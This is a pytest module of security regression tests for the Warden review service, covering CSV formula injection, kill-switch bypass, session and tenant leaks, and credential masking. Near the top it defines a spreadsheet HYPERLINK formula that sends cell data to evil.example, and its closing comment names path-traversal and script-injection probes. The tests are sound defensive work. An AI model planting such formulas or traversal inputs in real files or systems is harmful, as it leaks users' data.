"""Attacks across entry points (CLI, API, pages, service) that once got through, kept as
regression tests: a CSV formula in an export, a decision under an engaged kill switch, a live
stream outliving its session, malformed decisions and dates answered with a 500, another
tenant's file name, an asserted cancel where decisions need authentication, credentials in a
comment, retries past the tree's time cap. The attacks that held are listed in the module's
final comment.

Real stores and servers: the live server of tests/server (uvicorn, DuckDB, SQLite, HTTP), the
`warden` CLI in subprocesses, and the service over a private copy of Acme.
"""

from __future__ import annotations

import csv
import io
import os
import time
from pathlib import Path
from typing import Any

import pytest
from tests.attacks._cli import warden_cli
from tests.service._acme_tree import acme_copy

from warden.errors import WardenError
from warden.runbooks.load import parse_runbook
from warden.store import approvals, runs

REPO = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Acme")'
"""A spreadsheet formula: Excel and LibreOffice evaluate a CSV cell that starts with = + - @."""


_warden = warden_cli


# --- 1. CSV formula injection: `warden ropa --format csv` ------------------------------------


def test_ropa_csv_does_not_carry_a_spreadsheet_formula_from_the_notice(tmp_path: Path) -> None:
    """An analyst uploads a notice whose first sentence starts with a formula; the DPO exports
    the record of processing activities as CSV for the spreadsheet the ROPA lives in. The quoted
    passage lands in a cell verbatim, starting with `=`: opening the export runs the formula
    (here: a link that sends the neighbouring cell to evil.example)."""
    acme = acme_copy(tmp_path / "acme")
    text = acme.notice.read_text()
    acme.notice.write_text(
        text.replace("Acme Ltd runs acme-shop.example", f"{FORMULA} runs acme-shop.example", 1)
    )
    root = acme.completed()

    done = _warden(acme.home, acme.policy, "ropa", root, "--format", "csv", "--as", "dora@acme")
    assert done.returncode == 0, done.stderr
    assert "evil.example" in done.stdout  # the passage is quoted in the export ...
    cells = [c for row in csv.reader(io.StringIO(done.stdout)) for c in row]
    formulas = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # ... but no cell may start with a formula trigger (prefix it with ' as OWASP advises)
    assert formulas == [], formulas[:3]


# --- 2. A decision taken while the tenant's kill switch is engaged ---------------------------


def test_no_decision_is_taken_while_the_kill_switch_is_engaged(tmp_path: Path) -> None:
    """The admin engages Acme's kill switch (an incident). A DPO still approves a waiting run,
    and an edited runbook passes the guard: the guard's `kill_switch` check reads only the
    policy the run is bound to, not the switch in force. The approval is recorded and a new
    runbook version is published under the switch; only then is the tree cancelled."""
    acme = acme_copy(tmp_path / "acme")
    service = acme.service()
    ana = service.principal("ana@acme", writing=True)
    dora, adam = service.principal("dora@acme"), service.principal("adam@acme")
    plain = service.start(ana, acme.notice, tenant="acme").root_run_id
    edited = service.start(ana, acme.notice, tenant="acme").root_run_id
    service.kill_switch(adam, "acme", engage=True, reason="incident 42")

    report = service.check_edit(dora, edited, (REPO / "runbooks" / "privacy-policy-review.yaml").read_text())
    assert not report.ok and "kill_switch" in {i.code for i in report.issues}, report.model_dump()

    refused: list[str] = []
    for run_id, runbook in (
        (plain, None),
        (
            edited,
            parse_runbook((REPO / "runbooks" / "privacy-policy-review.yaml").read_text(), source="edit"),
        ),
    ):
        try:
            service.decide(dora, run_id, "approve", role="dpo", edited_runbook=runbook)
        except WardenError as exc:
            refused.append(exc.code)
    with service.store.connect(read_only=True) as con:
        recorded = approvals.approvals_of_tree(con, plain) + approvals.approvals_of_tree(con, edited)
        published = approvals.versions_of(con, "acme", "privacy-policy-review")
    assert recorded == [] and published == [], (recorded, published)
    assert refused == ["kill_switch", "kill_switch"], refused


# --- 3. The live event stream outlives the session that opened it ----------------------------


def test_the_event_stream_stops_when_its_session_is_signed_out(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """dora opens a running tree's live view (GET /runs/{id}/events) and signs out (or an
    operator ends the session: a new password, an account taken away). The session is dead for
    every page at once (303 to sign-in), but the open stream was authorised once, at its start,
    and keeps sending the tree's statuses, steps, costs and timings to the ended session for up
    to five minutes (MAX_STREAM_S), re-reading the store with the old principal every 0.5 s."""
    import json
    from datetime import timedelta

    import httpx
    import yaml
    from tests.graph._wardencli import PLUGINS, acme_policy_data, runbook, slow, write_yaml
    from tests.server.conftest import NOTICE, PASSWORD, csrf_of, serving

    from warden.catalogue import Catalogue
    from warden.server import create_app
    from warden.service import Service

    monkeypatch.setenv("WARDEN_ANALYSER_PATH", str(PLUGINS))
    policy = write_yaml(tmp_path / "policy.yaml", acme_policy_data())
    service = Service(tmp_path / "home", policy=policy, catalogue=Catalogue.discover())
    for user in ("ana@acme", "dora@acme"):
        service.accounts.add_user(user, "acme", PASSWORD)
    token = {u: service.accounts.issue_token(u, timedelta(hours=1)).secret for u in ("ana@acme", "dora@acme")}
    book = runbook("sse-review", [slow(f"s{i}", seconds=1.0) for i in range(8)])
    app = create_app(
        tmp_path / "home", service=service, workers=2, escalate_every_s=None, orphan_grace_s=None
    )
    with serving(app) as port:
        url = f"http://127.0.0.1:{port}"
        api = {
            u: httpx.Client(base_url=url, timeout=60, headers={"Authorization": f"Bearer {t}"})
            for u, t in token.items()
        }
        started = api["ana@acme"].post(
            "/api/runs",
            data={"tenant": "acme", "runbook_yaml": yaml.safe_dump(book)},
            files={"file": ("notice.md", NOTICE.read_bytes())},
            params={"wait": 30},
        )
        assert started.status_code == 202, started.text
        run_id = started.json()["run_id"]
        assert started.json()["status"] == "waiting_approval"
        approved = api["dora@acme"].post(
            f"/api/runs/{run_id}/decision", json={"decision": "approve", "role": "dpo"}
        )
        assert approved.status_code == 200, approved.text
        deadline = time.monotonic() + 30
        while api["dora@acme"].get(f"/api/runs/{run_id}/tree").json()[0]["status"] != "running":
            assert time.monotonic() < deadline, "the approved tree did not start"
            time.sleep(0.05)

        with httpx.Client(base_url=url, timeout=60) as browser:
            form = browser.get("/sign-in").text
            signed = browser.post(
                "/sign-in", data={"user": "dora@acme", "password": PASSWORD, "csrf_token": csrf_of(form)}
            )
            assert signed.status_code == 303
            csrf = csrf_of(browser.get("/").text)
            cookies = dict(browser.cookies)
            after_sign_out: list[dict] = []
            with (
                httpx.Client(base_url=url, timeout=60, cookies=cookies) as stream_client,
                stream_client.stream("GET", f"/runs/{run_id}/events") as stream,
            ):
                assert stream.status_code == 200
                ended = False
                event = None
                for line in stream.iter_lines():
                    if line.startswith("event: "):
                        event = line[len("event: ") :]
                    elif line.startswith("data: ") and event == "progress":
                        if not ended:  # the first snapshot arrived: now sign out
                            out = browser.post("/sign-out", data={"csrf_token": csrf})
                            assert out.status_code == 303
                            dead = httpx.get(f"{url}/runs/{run_id}", cookies=cookies, timeout=30)
                            assert dead.status_code == 303  # the session is dead for the pages
                            ended = True
                        else:
                            after_sign_out.append(json.loads(line[len("data: ") :]))
        for c in api.values():
            c.close()
    # nothing of the tree may reach a session after it ended
    assert after_sign_out == [], f"{len(after_sign_out)} progress events after sign-out: {after_sign_out[-1]}"


# --- 4. A malformed decision is an internal error (HTTP 500), not a coded refusal -------------


def test_a_malformed_decision_is_refused_with_a_code_not_an_internal_error(live: Any) -> None:
    """dora (the approver) posts a decision whose `runbook_sha256` is not a sha256 (API and
    the review page's forms) or, on the page, an empty role: `claim_decision` builds the
    ApprovalDecision model from them unchecked and its ValidationError escapes as HTTP 500
    `internal` ("this is a bug in Warden") instead of a coded 4xx."""
    from tests.server.conftest import signed_in

    answers: dict[str, int] = {}
    run_id = live.waiting_run("acme")
    for label, body in (
        ("api approve, sha256 'x'", {"decision": "approve", "role": "dpo", "runbook_sha256": "x"}),
        (
            "api reject, sha256 'ZZ'",
            {"decision": "reject", "role": "dpo", "reason": "no", "runbook_sha256": "ZZ"},
        ),
    ):
        with live.client("dora@acme") as c:  # a client each: a 500 drops the connection
            answers[label] = c.post(f"/api/runs/{run_id}/decision", json=body).status_code
    for label, path, data in (
        ("page approve, sha256 'zz'", "approve", {"role": "dpo", "runbook_sha256": "zz"}),
        ("page approve, no role", "approve", {"role": ""}),
        ("page reject, no role", "reject", {"role": "", "reason": "not this one"}),
    ):
        with signed_in(live, "dora@acme") as (c, csrf):
            answers[label] = c.post(f"/runs/{run_id}/{path}", data={"csrf_token": csrf, **data}).status_code
    with live.client("dora@acme") as c:
        assert c.get(f"/api/runs/{run_id}").json()["run"]["status"] == "waiting_approval"
    assert {k: v for k, v in answers.items() if v >= 500} == {}, answers


# --- 5. Another tenant's file name through a document with the same bytes -------------------


def test_a_document_uploaded_by_two_tenants_shows_each_only_its_own_file_name(live: Any) -> None:
    """ana@acme uploads a notice as `acme-secret-project-falcon.md`; later gil@globex uploads
    the same bytes as `globex-notice.md`. Documents are stored once by their sha256 for every
    tenant (`documents.store_document`: INSERT ... ON CONFLICT DO NOTHING), so Globex's run
    is listed, put in Globex's inbox and reviewed under Acme's file name: Acme's name leaks to
    Globex, and with it the fact that Acme analysed this very document."""
    from tests.server.conftest import GLOBEX_RUNBOOK, NOTICE, signed_in

    data = NOTICE.read_bytes() + f"\n\nReview marker {os.getpid()}-{id(live)}.\n".encode()
    with live.client("ana@acme") as c:
        r = c.post(
            "/api/runs", data={"tenant": "acme"}, files={"file": ("acme-secret-project-falcon.md", data)}
        )
        assert r.status_code == 202, r.text
        live.settle("ana@acme", r.json()["run_id"])
    with live.client("gil@globex") as c:
        r = c.post(
            "/api/runs",
            data={"tenant": "globex", "runbook_yaml": GLOBEX_RUNBOOK.read_text()},
            files={"file": ("globex-notice.md", data)},
        )
        assert r.status_code == 202, r.text
        globex_run = r.json()["run_id"]
    live.settle("gil@globex", globex_run)

    seen: dict[str, str] = {}
    with live.client("gil@globex") as c:
        seen["GET /api/runs (gil@globex)"] = c.get("/api/runs").text
        seen["GET /api/runs/{id} (gil@globex)"] = c.get(f"/api/runs/{globex_run}").text
    with signed_in(live, "gwen@globex") as (c, _):
        seen["GET /inbox (gwen@globex)"] = c.get("/inbox").text
        seen["GET /runs/{id}/review (gwen@globex)"] = c.get(f"/runs/{globex_run}/review").text
        seen["GET /runs (gwen@globex)"] = c.get("/runs").text
    leaks = [where for where, text in seen.items() if "falcon" in text]
    assert leaks == [], f"Acme's file name is shown to Globex by: {leaks}"


# --- 6. A `since` out of the calendar's range is an internal error ---------------------------


def test_runs_since_out_of_range_is_a_usage_error_on_the_cli(tmp_path: Path) -> None:
    """`warden runs --since 99999999d` (an age the pattern accepts) overflows `datetime` and
    exits 70, "internal error: OverflowError ... this is a bug in Warden", instead of 2."""
    acme = acme_copy(tmp_path / "acme")
    service = acme.service()
    service.start(service.principal("ana@acme", writing=True), acme.notice, tenant="acme")
    codes = {}
    for since in ("99999999d", "99999999999999999999999m"):
        done = _warden(acme.home, acme.policy, "runs", "--since", since, "--as", "dora@acme")
        codes[since] = (done.returncode, done.stderr.strip().splitlines()[:1])
    assert all(rc == 2 for rc, _ in codes.values()), codes


def test_api_runs_since_at_the_calendars_edge_is_a_coded_error(live: Any) -> None:
    """`GET /api/runs?since=0001-01-01T00:00:00+01:00` (a valid ISO datetime, accepted by the
    route's validation) is converted to UTC in `api.list_runs` (`since.astimezone(UTC)`), which
    overflows: HTTP 500 `internal` instead of 400/422."""
    answers = {}
    for since in ("0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00"):
        with live.client("dora@acme") as c:  # a client each: a 500 drops the connection
            answers[since] = c.get("/api/runs", params={"since": since}).status_code
    assert all(code < 500 for code in answers.values()), answers


# --- 7. require_authenticated: an asserted `--as` may not decide, but may cancel ------------


def test_an_asserted_approver_cannot_withdraw_a_run_where_decisions_need_authentication(
    tmp_path: Path,
) -> None:
    """Under `approval.require_authenticated: true` "an asserted --as may not decide": anyone
    on the host can type `--as dora@acme`. `warden reject` is refused (authentication_required),
    but `warden cancel --as dora@acme` stops the tree all the same (exit 0, `cancelled`,
    audited with auth `asserted`): the asserted approver kills a run the policy reserves to
    authenticated approvers. `DecisionOps.cancel` checks the role but not the policy's
    require_authenticated (triage does check it)."""
    acme = acme_copy(tmp_path / "acme", require_authenticated=True)
    service = acme.service()
    run_id = service.start(
        service.principal("ana@acme", writing=True), acme.notice, tenant="acme"
    ).root_run_id

    rejected = _warden(
        acme.home, acme.policy, "reject", run_id, "--as", "dora@acme", "--role", "dpo", "--reason", "x"
    )
    assert rejected.returncode != 0 and "authentication_required" in rejected.stderr, rejected.stderr
    cancelled = _warden(acme.home, acme.policy, "cancel", run_id, "--as", "dora@acme", "--reason", "asserted")
    with service.store.connect(read_only=True) as con:
        status = runs.get_run(con, run_id)["status"]
    assert (cancelled.returncode, status) == (2, "waiting_approval"), (
        cancelled.returncode,
        status,
        cancelled.stdout,
    )
    assert "authentication_required" in cancelled.stderr


# --- 8. Warden's own API token (and `password: x`) in a comment is not masked ---------------


@pytest.mark.parametrize("kind", ["warden API token", "password: value"])
def test_a_credential_pasted_into_a_comment_is_masked_everywhere(live: Any, kind: str) -> None:
    """ "Credentials in the text masked" (docs/APPROVALS.md, comments). A DPO pastes a live
    Warden API token (`wdn_<id>_<secret>`, what `warden users token` prints) or a
    `password: ...` line into a run's comment thread: `warden.credentials.scrub` knows sk-,
    ghp_, AKIA, JWTs and `password=...`, but neither Warden's own token format nor
    `password: value`. The secret is stored verbatim (comments table and the `comment_added`
    audit payload), shown on the review page to every member of the tenant and written into
    the audit export; the token works."""
    from tests.server.conftest import signed_in

    run_id = live.waiting_run("acme")
    token = live.token("ana@acme").secret
    secret = token if kind == "warden API token" else "hunter2-Corr3ct"
    text = f"ops note: use {token} for the scrape" if kind == "warden API token" else f"db password: {secret}"
    with signed_in(live, "dora@acme") as (c, csrf):
        assert c.post(f"/runs/{run_id}/comments", data={"csrf_token": csrf, "text": text}).status_code == 303
        shown = {
            "review page": c.get(f"/runs/{run_id}/review").text,
            "audit export": c.get(f"/runs/{run_id}/audit.jsonl").text,
        }
    stored = live.service.store.query(
        "SELECT text FROM comments WHERE run_id = ? UNION ALL "
        "SELECT payload_json FROM audit_events WHERE run_id = ? AND event = 'comment_added'",
        [run_id, run_id],
    )
    shown["stored comment and audit payload"] = " ".join(str(r) for r in stored)
    if kind == "warden API token":  # a live credential, not a look-alike
        with live.client() as c:
            assert c.get("/api/me", headers={"Authorization": f"Bearer {token}"}).status_code == 200
    assert [where for where, body in shown.items() if secret in body] == []


# --- 9. Retries and their backoff run past the tree's duration cap ---------------------------


def test_retries_do_not_run_a_step_past_the_trees_duration_cap(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A runbook caps its tree at `max_duration_s: 3` and retries a step that times out
    (`retry: {max_attempts: 3, backoff_s: 2, retry_on: [timeout]}`). The guard passes it and the
    DPO approves. Each attempt is given the whole remaining time again
    (`step._run_analyser`: `timeout = remaining`), and the backoff sleeps between attempts are
    not capped at all (`executor.call_with_retries`): the step runs 3 x 3 s + 2 s + 4 s, five
    times the cap it was approved under, before the tree is marked `timed_out`."""
    from tests.graph._wardencli import PLUGINS, acme_policy_data, runbook, slow, write_yaml

    from warden.catalogue import Catalogue
    from warden.service import Service

    monkeypatch.setenv("WARDEN_ANALYSER_PATH", str(PLUGINS))
    policy = write_yaml(tmp_path / "policy.yaml", acme_policy_data())
    book = write_yaml(
        tmp_path / "capped.yaml",
        runbook(
            "capped-review",
            [slow("stuck", seconds=30, retry={"max_attempts": 3, "backoff_s": 2, "retry_on": ["timeout"]})],
            limits={"max_duration_s": 3},
        ),
    )
    service = Service(tmp_path / "home", policy=policy, catalogue=Catalogue.discover())
    ana, dora = service.principal("ana@acme", writing=True), service.principal("dora@acme")
    started = service.start(ana, REPO / "fixtures" / "acme" / "notice.md", tenant="acme", runbook=book)
    assert started.status == "waiting_approval", started
    began = time.monotonic()
    outcome = service.decide(dora, started.root_run_id, "approve", role="dpo")
    took = time.monotonic() - began
    assert outcome.status == "timed_out", outcome
    assert took < 3 + 2.5, f"the tree capped at 3 s ran its step for {took:.1f} s"


# --- Attacks tried that held (probed against the same live server, CLI and service) ----------
#
# - Pages: report/audit downloads in an unknown format (400), unknown severity/status filters
#   (400), inbox offset -1 (422), junk/NUL/3000-char passage ids (404), another tenant's event
#   stream (404, before any byte), /inbox?tenant=globex for an Acme user (nothing), HEAD/OPTIONS
#   on pages (405), /static traversal (404), /metrics with a session cookie (401).
# - Edits on the review page and through the API: non-mappings, alias bombs, python tags, NUL,
#   5000-deep nesting, huge ints, .inf limits (422 with the guard's report); tenant: globex,
#   a raised cost cap, an inline child without approval, an inline child of Globex or naming
#   system globex-hr, required_role analyst, an unknown analyser (422 / 409 edit_refused);
#   a child's edit nesting grandchildren (depth_limit), raising its limits (cost/depth_limit),
#   raising timeouts (duration_limit).
# - Uploads: `../../etc/passwd.md` (stored under a generated name), empty (415), nameless
#   (422), bad runbook files (422), another tenant (403), unknown built-in runbook (400),
#   DOCX garbage (415). A Globex user submitting Acme's runbook: rejected, every event on
#   Globex's chain. The child run's requester is the root's (no self-approval via the child).
# - CLI: 25 hostile arguments (--since forms with zones, --head forms, -o to /proc, a folder or
#   a missing folder, --runbook /dev/zero, policy apply /etc/passwd, blank --as, blank reason,
#   --role "") give coded exits 1/2; a symlinked document or folder out of document_roots is
#   document_outside_roots; `policy show` (text and --json) shows an Acme user nothing of Globex.
# - Injection: <img onerror> and javascript: links in a notice are not raw in report.html/.md/
#   .json nor in ropa html; NBSP-separated card numbers and IBANs are masked (HTML, Markdown).
